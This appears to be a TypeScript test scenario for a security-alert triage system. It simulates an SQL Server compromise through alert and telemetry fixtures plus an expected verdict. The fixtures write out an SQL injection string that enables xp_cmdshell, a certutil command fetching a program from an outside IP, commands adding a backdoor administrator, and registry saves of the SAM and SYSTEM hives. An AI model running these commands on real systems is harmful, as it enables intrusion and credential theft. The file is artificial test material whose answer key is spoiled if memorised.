// A setting of the database is switched on by the account of the portal, and then the database starts commands.
import { alert, connected, hashes, hostile, processSeen, ran, situation, unjudged } from '../../shorthand.ts'

export const shopQueryThenCommandsOnTheDatabase = situation(
  'shop-query-then-commands-on-the-database',
  'chains',
  'The database begins to start commands',
  (setting) => {
    const server = setting.machine('srv-sql-01')
    const web = setting.machine('srv-web-01')
    const switched = setting.ago({ hours: 2, minutes: 14 })
    const at = setting.ago({ hours: 1, minutes: 58 })
    const ip = '91.212.166.139'
    const fetch = `cmd.exe /c certutil.exe -urlcache -f http://${ip}/s.exe C:\\ProgramData\\s.exe`
    const tool = setting.file('portal database s.exe')
    const account = { AccountName: 'svc-sql', InitiatingProcessAccountName: 'svc-sql' }
    const child = { ...account, InitiatingProcessFileName: 'sqlservr.exe' }
    const { incident } = unjudged(setting, 'database starts commands', {
      title: 'Suspicious process launched by SQL Server',
      category: 'Execution',
      severity: 'Medium',
      at: at + 30_000,
      machine: server,
      techniques: ['T1505.001', 'T1059.003'],
      evidence: [processSeen(setting, 'cmd.exe', 'C:\\Windows\\System32', fetch, 'sqlservr.exe')],
    })
    const stamp = (time: number) => setting.iso(time).slice(0, 19).replace('T', ' ')
    return {
      alerts: [
        alert(setting, switched, 'redgate_monitor', 'Configuration option changed (custom metric)', {
          AlertId: setting.seeded.number('redgate alert', 200_000, 900_000),
          AlertType: 'Custom metric',
          AlertName: 'Instance configuration: number of non-default options',
          Severity: 'Medium',
          PreviousSeverity: 'None',
          Status: 'Raised',
          Raised: setting.iso(switched),
          Ended: null,
          MonitoredObject: {
            Group: 'Gothenburg / Production',
            Machine: server.dnsName,
            Instance: `${server.host}\\MSSQLSERVER`,
            Database: null,
            AzureName: null,
          },
          BaseMonitor: 'bm-gbg-01',
          Environment: {
            SqlVersion: '16.0.4165.4',
            Edition: 'Standard Edition (64-bit)',
            ServicePack: 'RTM-CU16',
            UptimeDays: 41,
            IsClustered: false,
          },
          Metric: { Name: 'non_default_options', Value: 14, Threshold: 12, CollectedEverySeconds: 60, Unit: 'options' },
          Details: [
            { Time: setting.iso(switched - 9000), Option: 'show advanced options', OldValue: 0, NewValue: 1 },
            { Time: setting.iso(switched - 8000), Option: 'xp_cmdshell', OldValue: 0, NewValue: 1 },
          ],
          ProcessAtRaise: {
            SessionId: 88,
            Login: 'portal_app',
            HostName: web.host,
            ClientAddress: web.ip,
            ProgramName: 'php-sqlsrv',
            Database: 'portal',
            OpenTransactions: 0,
          },
          SqlText:
            "select id,name from parts where sku='A1';exec sp_configure 'show advanced options',1;reconfigure;exec sp_configure 'xp_cmdshell',1;reconfigure;--'",
          PerformanceAtRaise: {
            CpuPercent: 11.4,
            MemoryUsedMb: 48_112,
            DiskQueue: 0.2,
            BatchRequestsPerSec: 210.7,
            PageLifeExpectancy: 9114,
            Deadlocks: 0,
            BlockedProcesses: 0,
          },
          TopWaits: [
            { Type: 'CXPACKET', Ms: 1204 },
            { Type: 'PAGEIOLATCH_SH', Ms: 611 },
            { Type: 'WRITELOG', Ms: 188 },
          ],
          SystemProcesses: [
            { Name: 'sqlservr.exe', Pid: 4120, CpuPercent: 9.1, PrivateMb: 47_210 },
            { Name: 'SQLAGENT.EXE', Pid: 4388, CpuPercent: 0.1, PrivateMb: 61 },
            { Name: 'MsSense.exe', Pid: 3012, CpuPercent: 0.6, PrivateMb: 214 },
          ],
          Disks: [
            { Drive: 'C:', FreePercent: 44.2, AvgReadMs: 1.1, AvgWriteMs: 1.4 },
            { Drive: 'D:', FreePercent: 31.8, AvgReadMs: 2.0, AvgWriteMs: 2.7 },
            { Drive: 'L:', FreePercent: 72.5, AvgReadMs: 0.9, AvgWriteMs: 1.2 },
          ],
          AgentJobs: { Failed24h: 0, Running: 1, LastBackup: setting.iso(setting.ago({ hours: 11 })) },
          RaisedBefore: { Last30Days: 0, LastOccurrence: null },
          Notes: [],
          AnnotatedBy: null,
          Link: 'https://redgate-monitor.havskoginstruments.com/Alerts/Details',
        }),
        alert(
          setting,
          at,
          'solarwinds_sem',
          'Rule fired: Process launched by database service',
          `From: SolarWinds SEM <sem@havskoginstruments.com>
To: it-alerts@havskoginstruments.com
Subject: SEM Rule Fired: Process launched by database service
Date: ${new Date(at + 20_000).toUTCString()}

Rule Name           : Process launched by database service
Rule Category       : Change Management / Database
Rule Description    : Fires when sqlservr.exe starts cmd.exe, powershell.exe or certutil.exe. Database jobs may cause it.
Correlation         : ProcessStart.SourceProcess = *sqlservr.exe AND ProcessStart.DestinationProcess IN (User Defined Group "Interpreters")
Correlation Time    : 3 events within 10 minutes, response window 5 minutes
Actions             : Send Email Message (template SEM-std-07), Infer Event (not configured), Block IP (disabled), Kill Process (disabled)

Manager             : sem-gbg-01 (2024.4.1.55)        Connector : Windows Security (NT security log) v7
Agent               : ${server.host.toUpperCase()}    Agent version : 2024.4.0.11    Agent status : connected
Event Name          : ProcessStart
Event Info          : A new process has been created
Insertion Time      : ${stamp(at + 9000)} UTC
Detection Time      : ${stamp(at)} UTC
Detection IP        : ${server.ip}
Insertion IP        : sem-gbg-01.havskoginstruments.com
Provider SID        : Microsoft-Windows-Security-Auditing 4688
Severity            : 4

Source Account      : svc-sql            Source Domain : HAVSKOG        Logon ID : 0x9C1A4
Source Process      : D:\\MSSQL16\\MSSQL\\Binn\\sqlservr.exe  (process id 4120)
Destination Process : C:\\Windows\\System32\\cmd.exe  (process id 11872)
Command Line        : ${fetch}
Token Elevation     : TokenElevationTypeDefault (1)      Mandatory Label : High

Related events in the correlation window
 1  ${stamp(at - 50_000)}  ProcessStart  cmd.exe   "cmd.exe /c whoami /priv"
 2  ${stamp(at - 20_000)}  ProcessStart  cmd.exe   "cmd.exe /c ipconfig /all & net localgroup administrators"
 3  ${stamp(at)}  ProcessStart  cmd.exe   (see above)

Counters since midnight : rules fired 212, events 18,442,107, dropped 0, storage used 61 %
nDepth query        : https://sem-gbg-01.havskoginstruments.com:8443/mvc/historical?rule=8814
You receive this message because you are a member of the e-mail group "SOC". Do not reply to this mailbox.`,
        ),
      ],
      facts: {
        incidents: [incident],
        telemetry: [
          ran(server, at - 50_000, 'cmd.exe', 'cmd.exe /c whoami /priv', child),
          ran(server, at - 20_000, 'cmd.exe', 'cmd.exe /c ipconfig /all & net localgroup administrators', child),
          ran(server, at, 'cmd.exe', fetch, { ...child, ...hashes(setting.file('cmd.exe')) }),
          connected(server, at + 2000, ip, {
            RemotePort: 80,
            InitiatingProcessFileName: 'certutil.exe',
            InitiatingProcessAccountName: 'svc-sql',
          }),
          ran(server, at + 60_000, 's.exe', 'C:\\ProgramData\\s.exe -i -c "cmd /c net user helpdsk Vinter#2026 /add"', {
            ...account,
            ...hashes(tool),
            FolderPath: 'C:\\ProgramData',
            InitiatingProcessFileName: 'cmd.exe',
          }),
          ran(server, at + 80_000, 'net.exe', 'net localgroup administrators helpdsk /add', {
            AccountName: 'system',
            InitiatingProcessFileName: 's.exe',
          }),
          ran(server, at + 5 * 60_000, 'reg.exe', 'reg save HKLM\\SAM C:\\ProgramData\\a.hiv /y', {
            AccountName: 'system',
            InitiatingProcessFileName: 's.exe',
          }),
          ran(server, at + 5 * 60_000 + 3000, 'reg.exe', 'reg save HKLM\\SYSTEM C:\\ProgramData\\b.hiv /y', {
            AccountName: 'system',
            InitiatingProcessFileName: 's.exe',
          }),
          connected(server, at + 8 * 60_000, ip, {
            InitiatingProcessFileName: 's.exe',
            InitiatingProcessAccountName: 'system',
          }),
        ],
      },
      expected: {
        ...hostile(server.host),
        severities: ['high', 'critical'],
        forbidden: [{ action: 'isolate-machine', target: setting.machine('srv-dc-01').host }],
      },
      because:
        'A query of the portal carried commands that switched on the command shell of the database. The database then fetched a program from outside, made a new administrator and saved the password store. No address has a reputation, and none is needed.',
    }
  },
)
